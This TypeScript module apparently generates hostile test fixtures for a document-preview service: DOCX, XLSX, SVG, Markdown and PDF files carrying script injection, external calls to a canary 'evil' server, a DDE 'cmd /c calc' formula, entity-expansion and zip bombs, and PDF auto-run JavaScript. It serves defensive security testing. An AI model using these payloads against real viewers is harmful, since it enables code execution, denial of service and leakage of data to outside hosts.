import { deflateRawSync } from 'node:zlib'
import { makeZip, type ZipEntry } from '../zip.ts'

/** Files that mean harm. `evil` is the address of a server that counts who calls; a script that runs leaves a mark. */
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const TYPES = 'http://schemas.openxmlformats.org/package/2006/content-types'
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const OFFICE = 'application/vnd.openxmlformats-officedocument'

export const script = (evil: string): string =>
  `<script>window.canary=1;parent.canary=1;top.canary=1;alert("canary");fetch("${evil}/script")</script><img src="x" onerror="window.canary=1;top.canary=1;alert('canary')"><img src="${evil}/html.png"><svg onload="window.canary=1;alert('canary')"></svg><iframe src="${evil}/frame"></iframe><style>@import url(${evil}/style.css);body{background:url(${evil}/bg.png)}</style><link rel="stylesheet" href="${evil}/link.css"><form action="${evil}"><button>go</button></form><a href="javascript:window.canary=1;alert('canary')">script link</a>`

const relations = (lines: string[]): string => `${XML}<Relationships xmlns="${RELS}">${lines.join('')}</Relationships>`
const relation = (id: string, type: string, target: string, isOutside = false): string =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${isOutside ? ' TargetMode="External"' : ''}/>`

/** The parts of a document around its main one. */
const word = (document: string, links: string[] = [], parts: ZipEntry[] = []): Buffer =>
  makeZip([
    {
      name: '[Content_Types].xml',
      data: `${XML}<Types xmlns="${TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="${OFFICE}.wordprocessingml.document.main+xml"/></Types>`,
    },
    { name: '_rels/.rels', data: relations([relation('rId1', 'officeDocument', 'word/document.xml')]) },
    { name: 'word/_rels/document.xml.rels', data: relations(links) },
    { name: 'word/document.xml', data: document },
    ...parts,
  ])
const docx = (body: string, links: string[] = [], parts: ZipEntry[] = []): Buffer =>
  word(
    `${XML}<w:document xmlns:w="${WORD}" xmlns:r="${REL}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`,
    links,
    parts,
  )
const said = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

export const docxWithHtml = (evil: string): Buffer =>
  docx(
    `${said('正文仍然可读')}<w:altChunk r:id="rId9"/>`,
    [relation('rId9', 'aFChunk', 'chunk.html')],
    [{ name: 'word/chunk.html', data: `<html><body>${script(evil)}</body></html>` }],
  )

export const docxWithLinks = (evil: string): Buffer => {
  const picture = (id: string) =>
    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="${id}" r:embed="${id}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
  return docx(
    `${said('正文仍然可读')}<w:p><w:hyperlink r:id="rId2"><w:r><w:t>点我</w:t></w:r></w:hyperlink></w:p>${picture('rId3')}<w:p><w:r><w:rPr><w:rFonts w:ascii="x;} body{background:url(${evil}/font.png)} @import url(${evil}/font.css); .y{"/></w:rPr><w:t>字体</w:t></w:r></w:p>`,
    [
      relation('rId2', 'hyperlink', "javascript:window.canary=1;alert('canary')", true),
      relation('rId3', 'image', `${evil}/picture.png`, true),
    ],
  )
}

/** Each level ten times the one below: ten levels are ten thousand million words. */
export const docxWithEntities = (): Buffer => {
  const levels = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  return word(
    `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "哈哈">${levels}]><w:document xmlns:w="${WORD}"><w:body>${said('&l10;')}</w:body></w:document>`,
  )
}

const HALF_GIGABYTE = 512 * 1024 * 1024
/** Half a gigabyte of spaces in half a megabyte: with its size written on it, or with a lie. */
export const bomb = (declared = HALF_GIGABYTE): Buffer => {
  const packed = deflateRawSync(Buffer.alloc(HALF_GIGABYTE, 32), { level: 1 })
  return docx(said('bomb'), [], [{ name: 'word/media/bomb.xml', packed, unpacked: declared }])
}

const book = (sheet: string | Buffer, extra: ZipEntry[] = [], links: string[] = []): ZipEntry[] => [
  {
    name: '[Content_Types].xml',
    data: `${XML}<Types xmlns="${TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${OFFICE}.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${OFFICE}.spreadsheetml.worksheet+xml"/></Types>`,
  },
  { name: '_rels/.rels', data: relations([relation('rId1', 'officeDocument', 'xl/workbook.xml')]) },
  {
    name: 'xl/workbook.xml',
    data: `${XML}<workbook xmlns="${SHEET}" xmlns:r="${REL}"><sheets><sheet name="数据" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  },
  { name: 'xl/_rels/workbook.xml.rels', data: relations([relation('rId1', 'worksheet', 'worksheets/sheet1.xml')]) },
  { name: 'xl/worksheets/_rels/sheet1.xml.rels', data: relations(links) },
  { name: 'xl/worksheets/sheet1.xml', data: sheet },
  ...extra,
]
const sheetOf = (rows: string, after = ''): string =>
  `${XML}<worksheet xmlns="${SHEET}" xmlns:r="${REL}"><sheetData>${rows}</sheetData>${after}</worksheet>`

export const xlsxWithFormulas = (evil: string): Buffer =>
  makeZip(
    book(
      sheetOf(
        `<row r="1"><c r="A1" t="str"><f>HYPERLINK("${evil}/link","点我")</f><v>点我</v></c><c r="B1" t="str"><f>WEBSERVICE("${evil}/service")</f><v>已保存的结果</v></c><c r="C1"><f>1+1</f><v>40</v></c><c r="D1" t="inlineStr"><is><t>&lt;img src=x onerror=alert(1)&gt;</t></is></c><c r="E1" t="str"><f>cmd|'/c calc'!A0</f><v>DDE</v></c></row>`,
        '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
      ),
      [],
      [relation('rId1', 'hyperlink', "javascript:window.canary=1;alert('canary')", true)],
    ),
  )

/** Two cells at opposite corners: a careless reader makes seventeen thousand million cells of them. */
export const xlsxWithCorners = (): Buffer =>
  makeZip(book(sheetOf('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')))

/** A real table of about the wished size: numbers that hardly compress. */
export const bigXlsx = (megabytes: number): Buffer => {
  const parts: string[] = []
  let seed = 1
  const next = () => (seed = (seed * 48271) % 2147483647)
  const rows = Math.round(megabytes * 8050)
  for (let r = 1; r <= rows; r++) {
    const cells = Array.from({ length: 8 }, (_, c) => `<c r="${String.fromCharCode(65 + c)}${r}"><v>${next()}${next()}</v></c>`)
    parts.push(`<row r="${r}">${cells.join('')}</row>`)
  }
  const data = Buffer.from(sheetOf(parts.join('')))
  return makeZip(
    book('').map((entry) =>
      entry.name === 'xl/worksheets/sheet1.xml' ? { ...entry, data, packed: deflateRawSync(data, { level: 1 }) } : entry,
    ),
  )
}

export const svgWithScript = (evil: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="window.canary=1;alert('canary')"><script>window.canary=1;top.canary=1;alert('canary')</script><rect width="300" height="200" fill="#0b63c5"/><image xlink:href="${evil}/svg.png" width="50" height="50"/><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/svgframe"/></foreignObject></svg>`

export const markdownWithHtml = (evil: string): string =>
  `# 标题仍然可读\n\n${script(evil)}\n\n[链接](javascript:alert('canary'))\n\n![图](${evil}/md.png)\n\n<details open ontoggle="window.canary=1;alert('canary')">x</details>\n`

/** By hand: a page with a word on it, a script at opening, a script in the names, and a link out that opens by itself. */
export const pdfWithScript = (evil: string): Buffer => {
  const content = 'BT /F1 24 Tf 60 700 Td (Readable text) Tj ET\n0.04 0.39 0.77 rg 60 600 200 60 re f'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 7 0 R] >> >> /AA << /WC 7 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [8 0 R 9 0 R] /AA << /O 10 0 R >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /S /JavaScript /JS (app.alert("canary"); app.launchURL("${evil}/pdfjs", true);) >>`,
    `<< /S /JavaScript /JS (this.submitForm("${evil}/submit"); app.alert("canary")) >>`,
    `<< /Type /Annot /Subtype /Link /Rect [60 600 260 660] /Border [0 0 0] /A << /S /URI /URI (${evil}/uri) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [60 500 260 560] /Border [0 0 0] /A << /S /URI /URI (javascript:window.canary=1) >> >>',
    `<< /S /URI /URI (${evil}/opened) >>`,
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((body, i) => {
    const at = text.length
    text += `${i + 1} 0 obj\n${body}\nendobj\n`
    return at
  })
  const start = text.length
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}
